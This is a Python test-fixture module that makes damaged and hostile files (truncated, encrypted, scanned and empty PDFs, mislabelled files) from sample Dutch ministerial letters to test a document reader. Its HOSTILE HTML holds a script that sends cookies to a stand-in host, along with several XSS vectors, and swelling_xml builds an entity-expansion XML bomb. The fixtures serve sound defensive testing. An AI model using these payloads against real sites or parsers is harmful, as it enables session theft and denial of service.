"""Files that cannot be read, or not safely: what a reader must report and survive."""

from __future__ import annotations

import io
from collections.abc import Iterator, Mapping

PASSWORD = "geheim"
PAGE = (595, 842)
SCAN = (620, 877)
HOSTILE = """<!DOCTYPE html>
<html lang="nl"><head><title>Brief</title>
<script>document.location = "https://voorbeeld.invalid/?" + document.cookie</script>
<style>p { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('geladen')">
<h1>Brief van de Minister van Voorbeeld<img src="x" onerror="alert('beeld')"></h1>
<p>Den Haag, 3 maart 2026</p>
<p>Ik zal uw Kamer vóór 1 mei 2026 informeren over <b onclick="alert(1)">de veiligheid</b> van bruggen.
<iframe src="javascript:alert(2)"></iframe></p>
<p>&lt;script&gt;alert("tekst")&lt;/script&gt; is hier gewone tekst.</p>
<noscript><p>Zet JavaScript aan om deze brief te lezen.</p></noscript>
<svg onload="alert(3)"><text>tekening</text></svg>
<p>De Minister van Voorbeeld,<br>V.O. Beeld
</body>
"""


def break_letters(letters: Mapping[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """File name and bytes of each bad file, made from good letters.

    Args:
        letters: The good letters by file name; a PDF, a DOCX and an XML are taken from them.
    """
    pdf, docx = letters["kst-90101-7.pdf"], letters["jenv-2026-09-15-slachtofferloketten.docx"]
    xml = letters["kst-90101-15.xml"]
    yield "afgebroken.pdf", pdf[: len(pdf) * 2 // 3]
    yield "afgebroken.docx", docx[: len(docx) // 2]
    yield "afgebroken.xml", xml[: len(xml) // 2]
    yield "beveiligd.pdf", lock_pdf(pdf)
    yield "gescand.pdf", scan_pdf()
    yield "leeg.pdf", b""
    yield "leeg.txt", b""
    yield "verkeerde-extensie.pdf", docx
    yield "verkeerde-extensie.docx", b"Geachte voorzitter,\n\nDeze brief is nooit een Word-bestand geweest.\n"
    yield "vijandig.html", HOSTILE.encode()
    yield "onleesbaar.txt", bytes((n * 73 + n // 7) % 256 for n in range(2048))
    yield "uitdijend.xml", swelling_xml()


def lock_pdf(pdf: bytes) -> bytes:
    """A PDF that asks for a password before it can be read."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject

    class FixedWriter(PdfWriter):
        """Gives the file the same identifier each time; the key is made from it."""

        def generate_file_identifiers(self) -> None:
            """Take a fixed identifier where the library draws a random one."""
            fixed = ByteStringObject(b"nakoming-corpus!")
            self._ID = ArrayObject((fixed, fixed))

    writer = FixedWriter()
    writer.append(PdfReader(io.BytesIO(pdf)))
    writer.metadata = {"/Producer": "Nakoming"}
    writer.encrypt(PASSWORD, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def scan_pdf() -> bytes:
    """A PDF of one page that is only an image: grey bars where a scanner saw lines of text."""
    image = run_lengths(scan_rows())
    content = f"q {PAGE[0]} 0 0 {PAGE[1]} 0 0 cm /Scan Do Q".encode()
    described = (
        f"<< /Type /XObject /Subtype /Image /Width {SCAN[0]} /Height {SCAN[1]} /BitsPerComponent 1 "
        f"/ColorSpace /DeviceGray /Filter /RunLengthDecode /Length {len(image)} >>"
    )
    page = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {PAGE[0]} {PAGE[1]}] /Contents 5 0 R "
        "/Resources << /XObject << /Scan 4 0 R >> >> >>"
    )
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page.encode(),
            described.encode() + b"\nstream\n" + image + b"\nendstream",
            f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream",
        ]
    )


def scan_rows() -> Iterator[bytes]:
    """The rows of the scan, one bit a dot, white where the bit is set."""
    width = (SCAN[0] + 7) // 8
    white = b"\xff" * width
    for row in range(SCAN[1]):
        inked = 120 < row < 740 and row % 18 < 6 and row // 18 % 7
        length = 44 + row // 18 * 13 % 18
        yield white[:10] + b"\x11" * length + white[10 + length :] if inked else white


def run_lengths(rows: Iterator[bytes]) -> bytes:
    """Rows in PDF's run-length coding."""
    packed, data = bytearray(), b"".join(rows)
    at = 0
    while at < len(data):
        run = 1
        while run < 128 and at + run < len(data) and data[at + run] == data[at]:
            run += 1
        packed += bytes((257 - run, data[at])) if run > 1 else bytes((0, data[at]))
        at += run
    return bytes(packed) + b"\x80"


def assemble_pdf(objects: list[bytes]) -> bytes:
    """A PDF file of numbered objects, with the table that says where each begins."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}".encode()
    out += f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def swelling_xml() -> bytes:
    """An XML file whose entities would grow to ten million words if a parser resolved them."""
    entities = '<!ENTITY w0 "zal ">' + "".join(f'<!ENTITY w{n} "{f"&w{n - 1};" * 10}">' for n in range(1, 8))
    return f'<?xml version="1.0"?>\n<!DOCTYPE officiele-publicatie [{entities}]>\n<officiele-publicatie><al>&w7;</al></officiele-publicatie>\n'.encode()
